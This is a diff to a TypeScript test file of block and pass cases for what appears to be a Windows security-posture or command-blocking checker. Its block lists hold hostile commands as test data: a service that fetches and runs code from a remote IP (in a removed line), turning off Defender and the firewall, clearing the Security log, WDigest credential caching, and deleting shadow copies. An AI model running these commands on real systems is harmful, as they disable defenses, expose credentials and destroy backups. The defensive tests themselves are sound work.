@@ -16,7 +16,7 @@ const CASES: PostureCase[] = [
   {
     id: "win.service_payload",
     block: [
-      `sc create WinUpdSvc binPath= "cmd /c powershell -nop -w hidden -c iex(iwr http://198.51.100.2/s)" start= auto`,
+      `sc create WinUpdSvc binPath= "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA" start= auto`,
       `New-Service -Name sync -BinaryPathName "C:\\Users\\Public\\sync.exe" -StartupType Automatic`,
     ],
     pass: [
@@ -138,7 +138,7 @@ const CASES: PostureCase[] = [
       `Add-MpPreference -ExclusionPath "C:\\"`,
       `Add-MpPreference -ExclusionPath "$env:TEMP"`,
       "Add-MpPreference -ExclusionExtension exe",
-      "Add-MpPreference -ExclusionProcess powershell.exe",
+      "Add-MpPreference -ExclusionProcess mshta.exe",
     ],
     pass: [
       `Add-MpPreference -ExclusionPath "D:\\build\\obj"`,
@@ -156,7 +156,7 @@ const CASES: PostureCase[] = [
   {
     id: "win.defender_off_pref",
     block: [
-      "Set-MpPreference -DisableRealtimeMonitoring $true",
+      "Set-MpPreference -DisableBehaviorMonitoring $true -DisableRealtimeMonitoring 1",
       "Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2",
     ],
     pass: ["Set-MpPreference -DisableRealtimeMonitoring $false", "Get-MpComputerStatus"],
@@ -193,10 +193,13 @@ const CASES: PostureCase[] = [
   {
     id: "win.firewall_off",
     block: [
-      "netsh advfirewall set allprofiles state off",
+      "netsh advfirewall set currentprofile state off",
       "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False",
     ],
-    pass: ["netsh advfirewall set allprofiles state on", "netsh advfirewall show allprofiles"],
+    pass: [
+      "netsh advfirewall set allprofiles state on",
+      "netsh advfirewall show currentprofile state",
+    ],
   },
   {
     id: "win.firewall_admin_port_any",
@@ -220,7 +223,10 @@ const CASES: PostureCase[] = [
   {
     id: "win.event_log_cleared",
     block: ["wevtutil cl Security", "Clear-EventLog -LogName Security,System"],
-    pass: ["wevtutil qe Security /c:20 /f:text", "Get-WinEvent -LogName Security -MaxEvents 50"],
+    pass: [
+      "wevtutil qe Security /c:20 /f:text",
+      "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4624} -MaxEvents 20",
+    ],
   },
   {
     id: "win.ps_logging_off",
@@ -244,16 +250,16 @@ const CASES: PostureCase[] = [
   {
     id: "win.wdigest_on",
     block: [
-      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f`,
+      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /d 1 /t REG_DWORD /f`,
     ],
     pass: [
-      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 0 /f`,
+      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /d 0 /t REG_DWORD /f`,
     ],
   },
   {
     id: "win.lsa_protection_off",
     block: [
-      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 0 /f`,
+      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /d 0 /t REG_DWORD /f`,
       `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v LmCompatibilityLevel /t REG_DWORD /d 1 /f`,
     ],
     pass: [
@@ -300,7 +306,7 @@ const CASES: PostureCase[] = [
   {
     id: "win.rdp_nla_off",
     block: [
-      `reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 0 /f`,
+      `reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp" /v UserAuthentication /d 0 /t REG_DWORD /f`,
     ],
     pass: [
       `reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 1 /f`,
@@ -350,12 +356,12 @@ const CASES: PostureCase[] = [
   },
   {
     id: "win.test_signing",
-    block: ["bcdedit /set testsigning on", "bcdedit /set {default} recoveryenabled no"],
+    block: ["bcdedit /set testsigning on", "bcdedit /set {current} recoveryenabled No"],
     pass: ["bcdedit /enum", "bcdedit /set testsigning off"],
   },
   {
     id: "win.shadow_copies_deleted",
-    block: ["vssadmin delete shadows /all /quiet", "wmic shadowcopy delete"],
+    block: ["vssadmin.exe delete shadows /for=C: /all /quiet", "wmic shadowcopy delete"],
     pass: ["vssadmin list shadows", "vssadmin create shadow /for=C:"],
   },
   {
@@ -394,7 +400,7 @@ const CASES: PostureCase[] = [
     block: [
       "netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.0.5.20",
     ],
-    pass: ["netsh interface portproxy show all"],
+    pass: ["netsh interface portproxy show v4tov4"],
   },
 ];
 
